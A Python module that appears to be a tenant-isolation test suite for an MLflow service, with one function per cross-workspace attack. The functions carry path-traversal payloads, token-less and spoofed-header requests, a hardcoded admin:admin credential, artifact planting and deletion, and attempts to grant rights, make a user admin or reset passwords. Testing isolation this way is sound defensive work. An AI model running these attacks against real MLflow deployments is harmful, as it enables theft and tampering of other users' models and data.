"""Attacks on MLflow: workspaces, artifacts, versions of models, rights."""

import json
import uuid
from typing import Any

import coffea_shoppe as shoppe
import requests

from lib.attacks.table import (
    ARTIFACT,
    Names,
    Response,
    bearer,
    call,
    call_raw,
    changes,
    like,
    reads,
    together,
)


def mlflow(
    method: str, path: str, workspace: str, body: Any = None, *, data: bytes | None = None
) -> Response:
    """Send a request to MLflow for a workspace; the body of a GET is its query."""
    headers = bearer("mlflow") | ({"X-MLFLOW-WORKSPACE": workspace} if workspace else {})
    url = f"{shoppe.connections()['mlflow']}/{path}"
    if data is not None:
        return call(method, url, headers=headers, data=data)
    options = {"params": body} if method == "GET" else {"json": body}
    return call(method, url, headers=headers, **options)


API, AJAX = "api/2.0/mlflow", "ajax-api/2.0/mlflow"
FILES = "api/2.0/mlflow-artifacts"


@reads
def mlflow_run(me: Names, victim: Names) -> Response:
    return mlflow("GET", f"{API}/runs/get", victim.workspace, {"run_id": victim.run})


@reads
def mlflow_run_by_the_pages(me: Names, victim: Names) -> Response:
    return mlflow("GET", f"{AJAX}/runs/get", victim.workspace, {"run_id": victim.run})


@reads
def mlflow_run_by_the_own_workspace(me: Names, victim: Names) -> Response:
    return mlflow("GET", f"{API}/runs/get", me.workspace, {"run_id": victim.run})


@reads
def mlflow_run_search(me: Names, victim: Names) -> Response:
    body = {"experiment_ids": [victim.experiment], "max_results": 5}
    return mlflow("POST", f"{API}/runs/search", victim.workspace, body)


@reads
def mlflow_experiment(me: Names, victim: Names) -> Response:
    body = {"experiment_id": victim.experiment}
    return mlflow("GET", f"{API}/experiments/get", victim.workspace, body)


@reads
def mlflow_experiment_search(me: Names, victim: Names) -> Response:
    body = {"max_results": 100}
    return mlflow("POST", f"{API}/experiments/search", victim.workspace, body)


@reads
def mlflow_graphql(me: Names, victim: Names) -> Response:
    query = "query q($id: String) { mlflowGetRun(input: {runId: $id}) "
    query += "{ run { data { params { key value } } } } }"
    body = {"query": query, "variables": {"id": victim.run}}
    return mlflow("POST", "graphql", victim.workspace, body)


@reads
def mlflow_artifact(me: Names, victim: Names) -> Response:
    return mlflow("GET", f"{FILES}/artifacts{victim.artifacts}/{ARTIFACT}", victim.workspace)


@reads
def mlflow_artifact_by_the_own_workspace(me: Names, victim: Names) -> Response:
    return mlflow("GET", f"{FILES}/artifacts{victim.artifacts}/{ARTIFACT}", me.workspace)


@reads
def mlflow_artifact_of_the_run(me: Names, victim: Names) -> Response:
    body = {"run_uuid": victim.run, "path": ARTIFACT}
    return mlflow("GET", "get-artifact", victim.workspace, body)


@reads
def mlflow_artifact_of_the_version(me: Names, victim: Names) -> Response:
    body = {"name": victim.model, "version": "1", "path": ARTIFACT}
    return mlflow("GET", "model-versions/get-artifact", victim.workspace, body)


@like(mlflow_artifact)
def mlflow_artifact_by_detours(me: Names, victim: Names) -> Response:
    headers = bearer("mlflow") | {"X-MLFLOW-WORKSPACE": me.workspace}
    base = f"{shoppe.connections()['mlflow']}/{FILES}/artifacts{me.artifacts}"
    ups = ("..", "%2e%2e", "%252e%252e", "..%2f", "..%252f")
    ways = [f"{base}/{'/'.join([up] * 4)}{victim.artifacts}/{ARTIFACT}" for up in ups]
    return together([call_raw("GET", way, headers) for way in ways])


@like(mlflow_artifact_of_the_run)
def mlflow_artifact_of_the_own_run_by_detours(me: Names, victim: Names) -> Response:
    ups = ("../../../../..", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e", "/", "file:///", "s3://")
    path = f"{victim.artifacts}/{ARTIFACT}".lstrip("/")
    responses = []
    for up in ups:
        body = {"run_uuid": me.run, "path": f"{up}/{path}"}
        responses.append(mlflow("GET", "get-artifact", me.workspace, body))
    return together(responses)


@like(mlflow_artifact)
def mlflow_artifact_by_a_presigned_url(me: Names, victim: Names) -> Response:
    responses = [mlflow("GET", f"{FILES}/presigned{victim.artifacts}/{ARTIFACT}", victim.workspace)]
    for workspace in (me.workspace, victim.workspace):
        body = {"run_id": victim.run, "path": ARTIFACT}
        path = f"{API}/artifacts/presigned-download-url"
        responses.append(mlflow("POST", path, workspace, body))
    for response in list(responses):
        if response.status == requests.codes.ok and "http" in response.text:
            responses.append(call("GET", json.loads(response.text)["presigned_url"]))
    return together(responses)


@like(mlflow_artifact)
def mlflow_artifact_without_a_token(me: Names, victim: Names) -> Response:
    url = f"{shoppe.connections()['mlflow']}/{FILES}/artifacts{victim.artifacts}/{ARTIFACT}"
    return call("GET", url, headers={"X-MLFLOW-WORKSPACE": victim.workspace})


@like(mlflow_artifact)
def mlflow_artifact_with_the_token_of_another_service(me: Names, victim: Names) -> Response:
    url = f"{shoppe.connections()['mlflow']}/{FILES}/artifacts{victim.artifacts}/{ARTIFACT}"
    workspace = {"X-MLFLOW-WORKSPACE": victim.workspace, "X-Forwarded-User": victim.user}
    basic = {"Authorization": "Basic YWRtaW46YWRtaW4="}
    services = ("servicex", "triton", "api")
    tokens = [bearer(service) for service in services] + [basic]
    return together([call("GET", url, headers=workspace | token) for token in tokens])


def _version(me: Names, source: str, **more: str) -> Response:
    """Make a version of an own model from a source, and read the artifact by it."""
    name = f"thief-{uuid.uuid4().hex[:6]}"
    mlflow("POST", f"{API}/registered-models/create", me.workspace, {"name": name})
    body = {"name": name, "source": source, **more}
    made = mlflow("POST", f"{API}/model-versions/create", me.workspace, body)
    if made.status >= requests.codes.bad_request:
        return made
    body = {"name": name, "version": "1", "path": ARTIFACT}
    return mlflow("GET", "model-versions/get-artifact", me.workspace, body)


@reads
def mlflow_version_of_the_run(me: Names, victim: Names) -> Response:
    source = f"mlflow-artifacts:{victim.artifacts}"
    return _version(me, source, run_id=victim.run)


@like(mlflow_version_of_the_run)
def mlflow_version_of_another_s_source(me: Names, victim: Names) -> Response:
    sources = [
        f"s3://service-mlflow{victim.artifacts}",
        f"S3://service-mlflow{victim.artifacts}",
        f"file:///data/artifacts{victim.artifacts}",
        f"mlflow-artifacts:{victim.artifacts}",
        f"mlflow-artifacts:{me.artifacts}/%252e%252e/%252e%252e/{victim.run}/artifacts",
        f"mlflow-artifacts:{me.artifacts}/../../../../{victim.artifacts}",
        f"runs:/{victim.run}/",
        f"models:/{victim.model}/1",
    ]
    responses = [_version(me, source) for source in sources]
    responses += [_version(me, source, run_id=me.run) for source in sources]
    return together(responses)


@like(mlflow_run)
def mlflow_experiment_in_the_victim_s_folder(me: Names, victim: Names) -> Response:
    """Artifacts of own runs would be below the victim's."""
    parent = victim.artifacts.rpartition(f"/{victim.run}")[0]
    responses = []
    for location in (f"mlflow-artifacts:{parent}", f"s3://service-mlflow{parent}"):
        body = {"name": f"thief-{uuid.uuid4().hex[:6]}", "artifact_location": location}
        made = mlflow("POST", f"{API}/experiments/create", me.workspace, body)
        responses.append(made)
        if made.status == requests.codes.ok:
            experiment = {"experiment_id": json.loads(made.text)["experiment_id"]}
            run = mlflow("POST", f"{API}/runs/create", me.workspace, experiment)
            info = json.loads(run.text)["run"]["info"]
            for path in (f"../../{victim.run}/artifacts/{ARTIFACT}", ARTIFACT):
                body = {"run_uuid": info["run_id"], "path": path}
                responses.append(mlflow("GET", "get-artifact", me.workspace, body))
    return together(responses)


@changes
def mlflow_metric(me: Names, victim: Names) -> Response:
    body = {"run_id": victim.run, "key": "x", "value": 1, "timestamp": 1, "step": 0}
    return mlflow("POST", f"{API}/runs/log-metric", victim.workspace, body)


@changes
def mlflow_metric_by_the_own_workspace(me: Names, victim: Names) -> Response:
    body = {"run_id": victim.run, "key": "x", "value": 1, "timestamp": 1, "step": 0}
    return mlflow("POST", f"{API}/runs/log-metric", me.workspace, body)


@changes
def mlflow_new_experiment(me: Names, victim: Names) -> Response:
    body = {"name": f"theft-{uuid.uuid4().hex[:6]}"}
    return mlflow("POST", f"{API}/experiments/create", victim.workspace, body)


@changes
def mlflow_new_run(me: Names, victim: Names) -> Response:
    body = {"experiment_id": victim.experiment}
    return mlflow("POST", f"{API}/runs/create", victim.workspace, body)


@changes
def mlflow_artifact_put(me: Names, victim: Names) -> Response:
    path = f"{FILES}/artifacts{victim.artifacts}/planted.txt"
    return mlflow("PUT", path, victim.workspace, data=b"planted")


@changes
def mlflow_artifact_put_by_the_own_workspace(me: Names, victim: Names) -> Response:
    path = f"{FILES}/artifacts{victim.artifacts}/planted.txt"
    return mlflow("PUT", path, me.workspace, data=b"planted")


@changes
def mlflow_artifact_delete(me: Names, victim: Names) -> Response:
    return mlflow("DELETE", f"{FILES}/artifacts{victim.artifacts}/planted.txt", victim.workspace)


@changes
def mlflow_alias(me: Names, victim: Names) -> Response:
    body = {"name": victim.model, "alias": "prod", "version": "1"}
    return mlflow("POST", f"{API}/registered-models/alias", victim.workspace, body)


@changes
def mlflow_right_to_read(me: Names, victim: Names) -> Response:
    """As the owner shares: here with the attacker, by the attacker."""
    body = {"username": me.user, "resource_type": "experiment", "resource_id": "*"}
    body["permission"] = "READ"
    path = "api/3.0/mlflow/users/permissions/grant"
    granted = mlflow("POST", path, victim.workspace, body)
    # Two rows of the owner's grant the same right; only who may grant it gets this error.
    if "RESOURCE_ALREADY_EXISTS" in granted.text:
        return Response(requests.codes.ok, granted.text)
    return granted


@like(mlflow_right_to_read, reads=False)
def mlflow_more_rights(me: Names, victim: Names) -> Response:
    role = {"name": f"r{uuid.uuid4().hex[:6]}", "workspace": victim.workspace}
    grant = {"username": me.user, "resource_type": "workspace", "permission": "MANAGE"}
    grant["resource_id"] = victim.workspace
    tries = [
        ("GET", "api/2.0/mlflow/users/list", {}),
        ("GET", "api/2.0/mlflow/users/get", {"username": victim.user}),
        ("POST", "api/2.0/mlflow/users/create", {"username": "x", "password": "a" * 20}),
        ("PATCH", "api/2.0/mlflow/users/update-admin", {"username": me.user, "is_admin": True}),
        ("PATCH", "api/2.0/mlflow/users/update-password",
         {"username": victim.user, "password": "a" * 20}),
        ("DELETE", "api/2.0/mlflow/users/delete", {"username": victim.user}),
        ("POST", "api/3.0/mlflow/roles/create", role),
        ("POST", "api/3.0/mlflow/users/permissions/grant", grant),
        ("GET", "api/3.0/mlflow/users/permissions/list", {"username": victim.user}),
    ]  # fmt: skip
    return together([mlflow(method, path, victim.workspace, body) for method, path, body in tries])


@changes
def mlflow_run_delete(me: Names, victim: Names) -> Response:
    return mlflow("POST", f"{API}/runs/delete", victim.workspace, {"run_id": victim.run})
